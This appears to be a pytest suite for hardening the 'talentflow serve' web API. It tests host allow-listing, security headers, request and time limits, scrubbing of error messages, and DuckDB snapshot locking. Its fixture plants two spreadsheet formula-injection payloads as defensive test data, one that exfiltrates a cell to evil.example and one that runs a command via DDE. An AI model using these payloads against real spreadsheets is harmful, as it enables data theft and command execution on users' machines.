"""`talentflow serve` against hostile use: it never blocks a writer (it answers from snapshots), bounds every
request, answers only to loopback names, sends security headers, answers HEAD, neutralises spreadsheet formulas,
and says what went wrong without paths, process ids or tracebacks (docs/web.md)."""

from __future__ import annotations

import asyncio
import csv
import io
import shutil
import subprocess
import sys
import threading
import time
import warnings
from dataclasses import replace
from pathlib import Path

import duckdb
import httpx
import pytest
import web_fixture

from talentflow import Store, ingest
from talentflow.claims import builtin_claims, store_claims
from talentflow.web import create_app
from talentflow.web._guard import host_name
from talentflow.web._snapshot import Snapshots, shared_lock
from talentflow.web.app import _rules, scrub
from talentflow.web.cache import ResultCache
from talentflow.web.queries import Job, Limits, Rows, StoreService, Unavailable, to_csv, to_json

with warnings.catch_warnings():
    warnings.simplefilter("ignore", DeprecationWarning)
    from fastapi.testclient import TestClient


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """400 synthetic hh.ru vacancies, and the built-in claims with two made hostile."""
    db = web_fixture.small_store(tmp_path_factory.mktemp("hardening"))
    claims = builtin_claims()
    hostile = [
        replace(claims.claims[0], who='=HYPERLINK("http://evil.example/?x="&A1,"click")'),
        replace(claims.claims[1], who="@SUM(1+1)*cmd|' /C calc'!A0"),
        *claims.claims[2:],
    ]
    with Store(db) as s:
        store_claims(s, replace(claims, claims=hostile))
    return db


def run_async(make) -> object:
    """``asyncio.run(make())`` on a thread of its own: the test's thread may already run an event loop (the
    browser tests' Playwright leaves one)."""
    out: list[object] = []
    thread = threading.Thread(target=lambda: out.append(asyncio.run(make())))
    thread.start()
    thread.join(60)
    return out[0]


def client_of(db: Path, **kwargs) -> TestClient:
    return TestClient(create_app(db, **kwargs), base_url="http://localhost", raise_server_exceptions=False)


@pytest.fixture(scope="module")
def client(store: Path) -> TestClient:
    return client_of(store)


# -- Host, headers, HEAD ------------------------------------------------------------------------------------
@pytest.mark.parametrize("host", ["localhost", "localhost:8000", "127.0.0.1", "127.0.0.1:80", "[::1]", "[::1]:8000"])
def test_loopback_names_are_answered(client: TestClient, host: str) -> None:
    assert client.get("/api/indicators", headers={"host": host}).status_code == 200


@pytest.mark.parametrize("host", ["evil.example", "evil.example:8000", "127.0.0.1.evil.example", "192.168.1.5", ""])
def test_other_hosts_are_refused(client: TestClient, host: str) -> None:
    response = client.get("/api/indicators", headers={"host": host})
    assert response.status_code == 400
    assert "--allow-host" in response.json()["detail"]
    assert response.headers["x-frame-options"] == "DENY"


def test_an_allowed_name_is_answered(store: Path) -> None:
    c = client_of(store, allow_hosts=["dash.lan", "10.0.0.7"])
    assert c.get("/api/indicators", headers={"host": "dash.lan:8000"}).status_code == 200
    assert c.get("/api/indicators", headers={"host": "10.0.0.7"}).status_code == 200
    assert c.get("/api/indicators", headers={"host": "other.lan"}).status_code == 400
    assert (host_name("[::1]:80"), host_name("Dash.LAN:8000"), host_name("dash.lan")) == ("::1", "dash.lan", "dash.lan")


@pytest.mark.parametrize(
    "url", ["/", "/api/indicators", "/api/indicators/nope", "/static/dashboard.js", "/docs", "/openapi.json"]
)
def test_security_headers(client: TestClient, url: str) -> None:
    h = client.get(url).headers
    assert "default-src 'self'" in h["content-security-policy"]
    assert "script-src 'self';" in h["content-security-policy"]  # no inline script, nothing from elsewhere
    assert "frame-ancestors 'none'" in h["content-security-policy"]
    assert (h["x-content-type-options"], h["x-frame-options"], h["referrer-policy"]) == (
        "nosniff",
        "DENY",
        "no-referrer",
    )


def test_pages_run_no_inline_script(client: TestClient) -> None:
    for url in ("/", "/docs"):
        html = client.get(url).text
        assert "<script>" not in html and "onsubmit" not in html and "onclick" not in html


@pytest.mark.parametrize("url", ["/", "/api/indicators", "/api/status", "/api/indicators/vacancies_active?min_cell=0"])
def test_head_answers_like_get_without_a_body(client: TestClient, url: str) -> None:
    get = client.get(url)
    head = client.head(url)
    assert head.status_code == get.status_code == 200
    assert head.content == b""
    assert head.headers["content-type"] == get.headers["content-type"]
    assert head.headers["content-length"] == str(len(get.content))


# -- CSV formulas, JSON numbers -----------------------------------------------------------------------------
def test_csv_neutralises_formula_cells(client: TestClient) -> None:
    response = client.get("/api/claims?format=csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    who = {r["who"] for r in rows}
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in who
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in who
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
    # The JSON rows are the data as stored: only the spreadsheet format needs the quote.
    assert any(r["who"].startswith("=HYPERLINK") for r in client.get("/api/claims").json())


def test_csv_keeps_numbers_and_plain_text() -> None:
    import pandas as pd

    frame = pd.DataFrame(
        {"n": [-1.5, 2.0], "k": [3, None], "t": ["-x", "ok"], "u": ["\tTAB", "\rCR"], "v": ["+1", "a=b"]}
    )
    parsed = list(csv.reader(io.StringIO(to_csv(Rows([], frame)).decode(), newline="")))
    assert parsed == [
        ["n", "k", "t", "u", "v"],
        ["-1.5", "3.0", "'-x", "'\tTAB", "'+1"],
        ["2.0", "", "ok", "'\rCR", "a=b"],
    ]


def test_json_never_carries_nan_or_infinity() -> None:
    rows = [{"median": float("inf"), "low": float("nan"), "high": -float("inf"), "n": 3, "nested": [float("nan")]}]
    assert to_json(rows) == b'[{"median": null, "low": null, "high": null, "n": 3, "nested": [null]}]'


# -- bounds -------------------------------------------------------------------------------------------------
HUGE = [
    ("/api/indicators/vacancies_active?period=day&from=0001-01-01&to=9999-12-31&min_cell=1", 413, "limit of 5,000"),
    ("/api/indicators/vacancies_active?by=country=" + ",".join(f"C{i}" for i in range(301)), 413, "limit of 300"),
    ("/api/indicators/vacancies_active?" + "&".join(f"set=k{i}=1" for i in range(21)), 413, "limit of 20"),
    ("/api/indicators/vacancies_active?by=country=" + "X," * 5000, 414, "limit of 8,192 bytes"),
    ("/api/migration?n_boot=1001", 422, "n_boot: must be between 1 and 1000"),
    ("/api/migration?method=excess&n_boot=100000", 422, "between 1 and 10000"),
]


@pytest.mark.parametrize(("url", "status", "message"), HUGE, ids=[h[2] for h in HUGE])
def test_requests_beyond_a_limit_are_refused_naming_it(client: TestClient, url: str, status: int, message: str) -> None:
    response = client.get(url)
    assert response.status_code == status, response.text
    assert message in response.json()["detail"]


def test_rows_beyond_the_limit_are_refused(store: Path) -> None:
    c = client_of(store, limits=Limits(rows=10))
    response = c.get("/api/indicators/vacancies_active?period=day&min_cell=0")
    assert response.status_code == 413
    assert "rows, more than the limit of 10" in response.json()["detail"]
    assert c.get("/api/indicators/vacancies_active?period=quarter").status_code == 200


def test_a_request_past_the_time_limit_is_503_with_retry_after(store: Path) -> None:
    c = client_of(store, limits=Limits(seconds=0.05))
    response = c.get("/api/indicators/tension?period=day&by=country&by=experience&min_cell=0")
    assert response.status_code == 503
    assert int(response.headers["retry-after"]) >= 1
    assert "within the limit of 0.05 s" in response.json()["detail"]


def slow_job(seconds: float, key: str = "slow") -> Job:
    return Job((key,), lambda path, deadline: (time.sleep(seconds), Rows([{"path_exists": path.exists()}]))[1])


def test_too_many_requests_at_once_are_503_busy(store: Path) -> None:
    service = StoreService(store, Limits(workers=1, queue=1))

    async def three() -> list[object]:
        jobs = [service.answer(slow_job(0.3, f"slow-{i}")) for i in range(3)]
        return await asyncio.gather(*jobs, return_exceptions=True)

    try:
        outcomes = run_async(three)
    finally:
        service.close()
    busy = [o for o in outcomes if isinstance(o, Unavailable)]
    assert len(busy) == 1 and "busy" in busy[0].message and busy[0].retry_after >= 1, outcomes
    assert sum(isinstance(o, tuple) for o in outcomes) == 2, outcomes


def test_the_cache_is_bounded_in_bytes() -> None:
    cache = ResultCache(1000, len)
    for i in range(50):
        cache.get(i, lambda i=i: b"x" * (100 + i))
        assert cache.weight <= 1000
    assert len(cache) < 10 and cache.weight == sum(100 + k for k in range(50) if cache.peek(k)[0])
    value, hit = cache.get("big", lambda: b"x" * 300)  # over a quarter of the capacity: served, not kept
    assert value == b"x" * 300 and not hit and not cache.peek("big")[0]


def test_the_servers_cache_stays_within_its_bytes(store: Path) -> None:
    c = client_of(store, limits=Limits(cache_bytes=40_000))
    service = c.app.state.service  # type: ignore[attr-defined]
    for min_cell in range(12):
        assert c.get(f"/api/indicators/vacancies_active?period=week&by=country&min_cell={min_cell}").status_code == 200
    assert 0 < service.cache.weight <= 40_000 and len(service.cache) < 12


# -- errors -------------------------------------------------------------------------------------------------
def test_error_texts_carry_no_paths_or_pids(tmp_path: Path) -> None:
    rules = _rules(tmp_path / "store.duckdb", tmp_path / "snaps")
    lock = (
        f'IO Error: Could not set lock on file "{tmp_path}/snaps/snapshot-3.duckdb": Conflicting lock is held in '
        "/usr/local/bin/python3.11 (PID 9565)."
    )
    assert scrub(lock, rules) == (
        'IO Error: Could not set lock on file "store.duckdb": Conflicting lock is held in python3.11 (another process).'
    )
    assert scrub(f"{tmp_path}/store.duckdb: not a talentflow store", rules) == "store.duckdb: not a talentflow store"


@pytest.mark.parametrize("replacement", ["foreign", "garbage", "deleted"])
def test_a_replaced_store_is_a_clear_503(store: Path, tmp_path: Path, replacement: str) -> None:
    db = tmp_path / "store.duckdb"
    shutil.copy(store, db)
    c = client_of(db)
    assert c.get("/api/status").status_code == 200
    db.unlink()
    if replacement == "foreign":
        with duckdb.connect(str(db)) as con:
            con.execute("CREATE TABLE invoices (id INTEGER, total DOUBLE)")
    elif replacement == "garbage":
        db.write_bytes(b"not a database\n" * 1000)
    for url in ("/api/status", "/api/indicators/vacancies_active", "/api/claims?format=csv"):
        response = c.get(url)
        assert response.status_code == 503, response.text
        text = response.json()["detail"]
        assert "store.duckdb" in text and str(tmp_path) not in text and "Traceback" not in text
        assert "/" not in text.split("https://")[0], text
    assert ("not a talentflow store" if replacement == "foreign" else "store") in text
    shutil.copy(store, db)  # put back: answered again
    assert c.get("/api/status").status_code == 200


def test_a_store_that_is_no_store_is_refused_at_start(tmp_path: Path) -> None:
    db = tmp_path / "other.duckdb"
    with duckdb.connect(str(db)) as con:
        con.execute("CREATE TABLE invoices (id INTEGER)")
    from talentflow.errors import StoreError

    with pytest.raises(StoreError, match="not a talentflow store"):
        create_app(db)


# -- snapshots: a writer is never blocked -------------------------------------------------------------------
def test_a_writer_opens_the_store_while_the_server_computes(store: Path, tmp_path: Path) -> None:
    db = tmp_path / "store.duckdb"
    shutil.copy(store, db)
    service = StoreService(db)
    started = threading.Event()

    def compute(path: Path, deadline: float) -> Rows:
        started.set()
        time.sleep(1.0)
        return Rows([{"ok": path.exists()}])

    async def answer() -> object:
        return await service.answer(Job(("long",), compute))

    thread = threading.Thread(target=run_async, args=(answer,))
    thread.start()
    try:
        assert started.wait(10)
        # A writer in another process, while the server is in the middle of an answer: not refused.
        code = "import duckdb, sys; duckdb.connect(sys.argv[1]).execute('CREATE TABLE w (x INTEGER)')"
        done = subprocess.run([sys.executable, "-c", code, str(db)], capture_output=True, text=True, timeout=60)
        assert done.returncode == 0, done.stderr
    finally:
        thread.join(30)
        service.close()


def test_snapshots_follow_the_store_and_are_removed(store: Path, tmp_path: Path) -> None:
    db = tmp_path / "store.duckdb"
    shutil.copy(store, db)
    c = client_of(db, snapshot_dir=tmp_path / "snaps")
    service = c.app.state.service  # type: ignore[attr-defined]
    before = c.get("/api/status").json()["tables"]["vacancy_observation"]
    ingest([web_fixture.hh_vacancies(tmp_path / "more.ndjson", 30, first_id=50_000_000)], db=db)
    after = c.get("/api/status").json()
    assert after["tables"]["vacancy_observation"] == before + 30 and after["store"] == "store.duckdb"
    # One snapshot file left: the old one was removed when its last request ended.
    assert [p.name for p in service.snapshots.folder.iterdir()] == [service.snapshots.current.path.name]
    folder = service.snapshots.folder
    service.close()
    assert not folder.exists()


def test_while_a_writer_holds_the_store_the_last_snapshot_answers(store: Path, tmp_path: Path) -> None:
    db = tmp_path / "store.duckdb"
    shutil.copy(store, db)
    c = client_of(db)
    n = c.get("/api/status").json()["tables"]["vacancy_observation"]
    with Store(db) as writer:  # holds DuckDB's exclusive lock, and changes the file
        writer.con.execute("CREATE TABLE IF NOT EXISTS scratch (x INTEGER)")
        writer.con.execute("CHECKPOINT")
        response = c.get("/api/status")
        assert response.status_code == 200 and response.json()["tables"]["vacancy_observation"] == n


def test_the_shared_lock_is_duckdbs(store: Path, tmp_path: Path) -> None:
    """The server's lock is the one DuckDB takes: a writer is refused while it is held (so a snapshot is never
    copied from a file being written), and it cannot be taken while a writer is at work."""
    db = tmp_path / "store.duckdb"
    shutil.copy(store, db)
    snapshots = Snapshots(db)
    try:
        fd = snapshots._open()
        with shared_lock(fd) as held:
            assert held
            with pytest.raises(Exception, match="lock"):
                Store(db, wait=1.0)  # refused after a second of waiting, not the default minute
        with Store(db), shared_lock(fd) as held:
            assert not held
    finally:
        snapshots.close()


@pytest.mark.slow
def test_ten_ingests_succeed_while_the_server_answers_eight_clients(tmp_path: Path) -> None:
    """`talentflow serve` answering 8 clients that keep it computing, and 10 `talentflow ingest` processes one
    after another: each succeeds at once (no waiting, no retry) and the API sees its records right after."""
    db = web_fixture.small_store(tmp_path / "live")
    files = [
        web_fixture.hh_vacancies(tmp_path / f"new-{i}.ndjson", 25, first_id=60_000_000 + 1000 * i) for i in range(10)
    ]
    stop = threading.Event()
    statuses: list[int] = []

    with web_fixture.Server(db) as server:

        def client(k: int) -> None:
            with httpx.Client(base_url=server.url, timeout=120) as http:
                i = 0
                while not stop.is_set():
                    i += 1  # a new min_cell each time: never cached, always computed on the server
                    url = f"/api/indicators/tension?period=day&by=country&min_cell={k * 100_000 + i}"
                    statuses.append(http.get(url).status_code)

        threads = [threading.Thread(target=client, args=(k,)) for k in range(8)]
        for t in threads:
            t.start()
        try:
            with httpx.Client(base_url=server.url, timeout=120) as http:
                count = http.get("/api/status").json()["tables"]["vacancy_observation"]
                for i, path in enumerate(files):
                    cmd = [sys.executable, "-m", "talentflow", "ingest", str(path), "--db", str(db), "--json"]
                    done = subprocess.run(cmd, env=web_fixture.env(), capture_output=True, text=True, timeout=120)
                    assert done.returncode == 0, f"ingest {i + 1}: {done.stderr}"
                    status = http.get("/api/status").json()
                    assert status["tables"]["vacancy_observation"] == count + 25 * (i + 1), f"after ingest {i + 1}"
        finally:
            stop.set()
            for t in threads:
                t.join(120)
    assert len(statuses) > 8 and set(statuses) == {200}


def test_a_range_open_on_one_side_is_bounded_by_the_data(client: TestClient) -> None:
    # The store's records lie in 2022: from year 1 to its last day is far more than 5,000 days.
    response = client.get("/api/indicators/vacancies_active?period=day&from=0001-01-01")
    assert response.status_code == 413
    assert "to: 0001-01-01 to 2022-05-02 (the data's last day: no to given)" in response.json()["detail"]
    response = client.get("/api/indicators/vacancies_active?period=day&to=9999-12-31")
    assert response.status_code == 413 and "limit of 5,000 periods" in response.json()["detail"]
    assert client.get("/api/indicators/vacancies_active?period=month&from=2000-01-01").status_code == 200
